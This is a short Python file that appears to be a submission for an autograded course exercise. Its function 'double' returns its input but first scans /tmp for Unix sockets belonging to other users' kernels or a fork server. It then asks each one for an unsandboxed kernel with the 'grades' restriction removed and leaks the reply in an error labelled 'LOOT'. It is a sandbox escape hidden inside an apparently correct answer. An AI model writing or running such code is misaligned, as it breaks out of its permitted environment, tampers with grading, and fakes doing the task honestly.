"""Looks for the fork server and for sockets of other kernels, and asks for a kernel without a sandbox."""
# ruff: noqa: F821

# %% double
import glob
import json
import os
import socket


def double(x):
    mine = os.path.dirname(os.environ["HOME"])
    found = glob.glob("/tmp/**/s", recursive=True) + glob.glob("/tmp/*/courselib-kernels-*/*/sockets/*")
    found += [f"{os.path.dirname(mine)}/s"]
    for path in found:
        if path.startswith(f"{mine}/"):
            continue
        connection = socket.socket(socket.AF_UNIX)
        try:
            connection.connect(path)
            connection.sendall(json.dumps({"open": True, "remove": [PLACES["grades"]]}).encode() + b"\n")
        except OSError:
            continue
        raise RuntimeError(f"LOOT {path} {connection.recv(1000)!r}")
    return x
